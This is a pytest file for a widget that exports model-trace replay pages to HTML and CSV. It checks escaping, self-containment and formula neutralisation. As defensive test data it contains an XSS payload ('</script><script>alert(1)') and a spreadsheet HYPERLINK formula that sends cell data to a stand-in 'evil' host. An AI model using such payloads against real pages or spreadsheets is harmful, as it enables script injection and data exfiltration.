"""The replay page: whole, self-contained and safe with hostile text. The browser tests open it."""

import io
import json
import re

import pandas as pd
import pytest

from axon_widget import wire
from axon_widget.engine.sampling import Sampling
from axon_widget.export import csv, page, replay_data, to_html
from axon_widget.labels.text import no_formula, without_apostrophe
from axon_widget.trace import Feature, Fit, Origin, SAEOrigin, Steer, Steered, Steering, TokenStep, Trace
from tests.unit.fakes import FakeTracer

HOSTILE = "</script><script>alert(1)</script><!-- \ud800 \u2028"


@pytest.fixture
def trace():
    steps = [TokenStep("", 1, 0, 0, generated=False, special=True)]
    for i in range(1, 6):
        features = (Feature(7, 2.0, 3, HOSTILE), Feature(8, 1.0 + i, 3, "plain"), Feature(9, 0.05, 3, "weak"))
        steps.append(TokenStep(HOSTILE if i == 2 else f" t{i}", i, i, i, generated=i > 2, features=features))
    return Trace(Origin("m", (SAEOrigin("s", layer=3, d_sae=10),), HOSTILE, sampling={"top_k": 5}), steps, "length")


def part(page, name):
    [text] = re.findall(rf'<script type="[^"]+" id="{name}">(.*?)</script>', page, re.DOTALL)
    return text


def test_page_holds_the_run(trace, tmp_path):
    page = to_html(trace, tmp_path / "run.html").read_text(encoding="utf-8")
    data = json.loads(part(page, "axon-replay"))
    assert [frame["step"] for frame in data["steps"]] == list(range(6))
    assert [frame["token"] for frame in data["steps"]][1] == " t1"
    assert data["finish"] == "length"
    assert data["traits"]["top_k"] == 5
    # Each feature that is shown once, and none that is not.
    assert [f["id"] for f in data["features"]] == [7, 8]


def test_page_is_the_bundle_and_nothing_from_elsewhere(trace, tmp_path):
    page = to_html(trace, tmp_path / "run.html").read_text(encoding="utf-8")
    bundle = part(page, "axon-bundle")
    assert len(bundle) > 300_000
    assert not re.search(r'(src|href)="', page.replace(bundle, ""))
    assert "default-src 'none'" in page


def test_hostile_text_stays_text(trace, tmp_path):
    page = to_html(trace, tmp_path / "run.html").read_text(encoding="utf-8")
    outside = page.replace(part(page, "axon-bundle"), "")
    assert "alert(1)</script>" not in outside
    assert outside.count("<script") == 3
    data = json.loads(part(page, "axon-replay"))
    assert data["steps"][2]["token"].startswith("</script><script>alert(1)")


def test_half_characters_of_a_file_from_elsewhere_are_no_trouble(trace):
    trace.append(TokenStep("\ud800", 6, 6, 6, True, features=(Feature(7, 2.0, 3, HOSTILE),)))
    read = Trace.from_json(trace.to_json())
    table = pd.read_csv(io.StringIO(csv(read)))
    pd.testing.assert_frame_equal(table, read.to_pandas(), check_dtype=False)
    told = HOSTILE.replace("\ud800", "?")
    assert (set(table[table.id == 7].label), table.token.iloc[-1], read.origin.prompt) == ({told}, "?", told)
    assert set(read.compare(Trace(read.origin)).label) == {told, "plain", "weak"}
    page(Trace(trace.origin, [trace[0], TokenStep("\ud800", 6, 1, 1, True)])).encode()


def test_frames_are_those_of_the_widget(trace):
    data = replay_data(trace, feature_k=5, activation_threshold=0.01)
    assert [len(frame["features"]) for frame in data["steps"]] == [0, 3, 3, 3, 3, 3]
    assert all(wire.size(frame) <= wire.BUDGET for frame in data["steps"])


def test_empty_trace_is_refused(tmp_path):
    with pytest.raises(ValueError, match="empty"):
        to_html(Trace(), tmp_path / "run.html")


def layered(steered=True):
    """A trace of two SAEs, of which one feature is steered from its third token on, read through them at the end."""
    saes = (SAEOrigin("one", "blocks.2.hook_resid_pre", 2, 10, 128), SAEOrigin("two", "blocks.5.hook_resid_pre", 5, 20))
    trace = Trace(Origin("m", saes, "a b", 7, {"temperature": 0.5}), finish="length")
    trace.append(TokenStep("", 1, 0, 0, generated=False, special=True))
    for n in range(1, 7):
        features = (Feature(n, 2.0, 2, f"one {n}"), Feature(9, 1.0, 2), Feature(n, 3.0, 5, "two", 1))
        now = (Steered(9, 1.0, 0.0, 2), Steered(19, 0.0, 4.0, 5, 1)) if steered and n > 2 else ()
        fits = (Fit(0.9, 0.95, 2), Fit(0.5, 0.7, 1))
        clean = -0.25 if steered and n == 6 else None
        step = TokenStep(f" t{n}", n, n, n, n > 2, False, -0.5, (), features, fits, now, clean)
        trace.append(step)
    if steered:
        trace.steering = {2: Steering((Steer(0, 9, 0.0), Steer(1, 19, 4.0))), 5: Steering((Steer(0, 9, 0.0),), True)}
    return trace


@pytest.mark.parametrize("saved", [False, True])
def test_a_page_tells_the_saes_apart_and_what_was_steered(saved, tmp_path):
    trace = layered()
    if saved:  # there is no tracer, as where a trace comes from a file
        trace = Trace.from_json(trace.to_json(tmp_path / "run.json"))
    page = to_html(trace, tmp_path / "run.html").read_text(encoding="utf-8")
    data = json.loads(part(page, "axon-replay"))
    assert [(sae["title"], sae["layer"], sae["context"]) for sae in data["info"]["saes"]] == [
        ("layer 2", 2, 128),
        ("layer 5", 5, None),
    ]
    assert (data["info"]["model"], data["info"]["sae"]) == ("m", "one")
    assert [(f["sae"], f["id"], f["layer"]) for f in data["steps"][3]["features"]] == [(0, 3, 2), (0, 9, 2), (1, 3, 5)]
    assert [frame.get("steered") for frame in data["steps"]] == [None] * 3 + [[[0, 9, 1.0, 0.0], [1, 19, 0.0, 4.0]]] * 4
    assert [frame.get("clean_logprob") for frame in data["steps"]] == [None] * 6 + [-0.25]
    assert [fit[:3] for fit in data["steps"][3]["fits"]] == [[0.9, 0.95, 2], [0.5, 0.7, 1]]
    # What is steered is told of, though it never fired.
    told = {(f["sae"], f["id"]): (f["layer"], f["label"]) for f in data["features"]}
    assert told[1, 19] == (5, "")
    assert told[0, 3] == (2, "one 3")
    assert told[1, 3] == (5, "two")
    assert data["similar"] == []


def test_a_tracer_of_other_saes_tells_nothing(tmp_path):
    trace, fake = layered(), FakeTracer(layers=(2, 5))
    data = replay_data(trace, fake)
    assert data["info"]["model"] == "m"
    assert {f["source"] for f in data["features"]} == {""}


def test_the_tracer_that_wrote_it_tells_more():
    fake, trace = FakeTracer(layers=(2, 5)), Trace()
    fake.dense_ones = {(3, 1)}
    list(fake.stream("a b", lambda: Sampling(max_tokens=2), seed=1, stop=bool, trace=trace, steering=Steering))
    data = replay_data(trace, fake, feature_k=5)
    assert data["info"] == fake.info
    assert {f["source"] for f in data["features"]} == {"a fake"}
    assert [[1, 4, 0.4, "label 4"]] in [f["nearest"] for f in data["features"]]
    # Every firing of what is shown stands in a frame or beside them.
    told = {(f["sae"], f["id"], frame["step"]) for frame in data["steps"] for f in frame["features"]}
    beside = {(sae, i, n) for sae, i, fired in data["activations"] for n, _ in fired}
    shown = {(f["sae"], f["id"]) for f in data["features"]}
    every = {(f.sae, f.id, s.step) for s in trace for f in s.features if (f.sae, f.id) in shown}
    assert told | beside == every
    assert beside
    assert not told & beside
    dense = {(f["sae"], f["id"]) for frame in data["steps"] for f in frame["features"] if f.get("dense")}
    assert dense == {(1, 3)}
    ends = {(a, b) for _, a, _, b, _ in data["similar"]}
    assert {(3, 3), (3, 4)} <= ends  # namesakes of the layers, and neighbours in one
    assert all(cosine >= 0.3 for *_, cosine in data["similar"])
    assert data["places"] == []
    fake.maps.ready = True
    shown = {(f["sae"], f["id"]) for f in data["features"]}
    places = {(s, i): (x, y) for s, i, x, y in replay_data(trace, fake, feature_k=5)["places"]}
    assert places == {(s, i): (i / 100, -i / 100) for s, i in shown}


def test_a_page_of_a_branch_holds_all_that_it_shares():
    fake, first = FakeTracer(), Trace()
    list(fake.stream("a b", lambda: Sampling(max_tokens=3), seed=1, stop=bool, trace=first, steering=Steering))
    second = first.branch(3)
    list(fake.resume(second, " w7", lambda: Sampling(max_tokens=2), seed=1, stop=bool, steering=Steering))
    data = replay_data(second, fake)
    assert [frame["token"] for frame in data["steps"]] == [" a", " b", " 1", " w7", " b2"]
    assert [frame["step"] for frame in data["steps"]] == list(range(5))


def test_a_trace_that_names_no_sae_can_be_shown(tmp_path):
    trace = Trace(steps=[TokenStep(" a", 1, 0, 0, True, features=(Feature(3, 1.0, 2, "a label"),))])
    data = json.loads(part(to_html(trace, tmp_path / "run.html").read_text(encoding="utf-8"), "axon-replay"))
    assert [(f["sae"], f["id"], f["label"]) for f in data["features"]] == [(0, 3, "a label")]


@pytest.mark.parametrize("label", ['=HYPERLINK("http://evil/"&A1,"x")', "+1", "-ing, …", "@SUM(A1)", "\t=1"])
def test_no_label_is_a_formula_to_a_spreadsheet(trace, label):
    trace.append(TokenStep(" x", 6, 6, 6, True, features=(Feature(7, 2.0, 3, label),)))
    trace = Trace.from_json(trace.to_json())
    cell = pd.read_csv(io.StringIO(csv(trace)), keep_default_na=False).label.iloc[-1]
    assert cell == f"'{label}"
    assert without_apostrophe(cell) == label
    assert [no_formula(text) for text in ("plain", "", "'x", "a=b")] == ["plain", "", "'x", "a=b"]
